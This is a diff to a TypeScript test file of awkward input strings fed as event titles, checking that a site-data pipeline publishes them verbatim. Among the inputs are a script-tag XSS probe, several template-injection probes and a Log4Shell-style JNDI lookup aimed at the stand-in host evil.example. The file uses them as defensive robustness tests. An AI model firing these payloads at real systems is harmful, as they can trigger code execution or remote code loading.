@@ -1,5 +1,16 @@
-import { edit, event, guide, labels, object, sidecar, textOf } from '../../validate/broken/row.ts'
+import {
+  append,
+  edit,
+  event,
+  guide,
+  labels,
+  object,
+  sidecar,
+  site,
+  textOf,
+} from '../../validate/broken/row.ts'
 import { type HostileRow, published } from '../row.ts'
+import { beside } from '../together.ts'
 
 const titles = [
   ['a script', '"<script>alert(1)</script>"', '<script>alert(1)</script>'],
@@ -28,10 +39,10 @@ const titles = [
   ['infinity', '.inf', '.inf'],
   ['no number', '.nan', '.nan'],
   ['a merge sign', '<<', '<<'],
-  ['a template of JavaScript', "'${process.env.HOME}'", '${process.env.HOME}'],
+  ['a template of JavaScript', `'\${process.env.HOME}'`, `\${process.env.HOME}`],
   ['a template of Python', "'{{7*7}}'", '{{7*7}}'],
   ['a template of Ruby', "'#{7*7}'", '#{7*7}'],
-  ['a template of Java', "'${jndi:ldap://evil.example/a}'", '${jndi:ldap://evil.example/a}'],
+  ['a template of Java', `'\${jndi:ldap://evil.example/a}'`, `\${jndi:ldap://evil.example/a}`],
   ['a placeholder of the header rules', "'{base_url}'", '{base_url}'],
   ['a placeholder of addresses', "'{slug}{language}'", '{slug}{language}'],
   ['a pattern of replacing', '"$& $1 $` $\'"', "$& $1 $` $'"],
@@ -53,11 +64,16 @@ const titles = [
 
 /** Texts that other programs stumble over, published as they were typed. */
 export const textRows: readonly HostileRow[] = [
-  ...titles.map(([what, typed, title]) => {
-    return published(`a title is ${what}`, edit(event, ['title: The fair', `title: ${typed}`]), {
-      singulareventdates: { title },
-    })
-  }),
+  {
+    name: 'titles that other programs stumble over',
+    parts: titles.map(([what]) => `a title is ${what}`),
+    files: Object.assign(
+      append(site, 'page_sizes: { event_dates: 1000 }\n'),
+      ...titles.map(([, typed], index) => beside(index, edit(event, ['title: The fair', `title: ${typed}`]))),
+    ),
+    told: [],
+    gives: { singulareventdates: [{ title: 'The fair' }, ...titles.map(([, , title]) => ({ title }))] },
+  },
   published(
     'an object and a label are called constructor',
     {
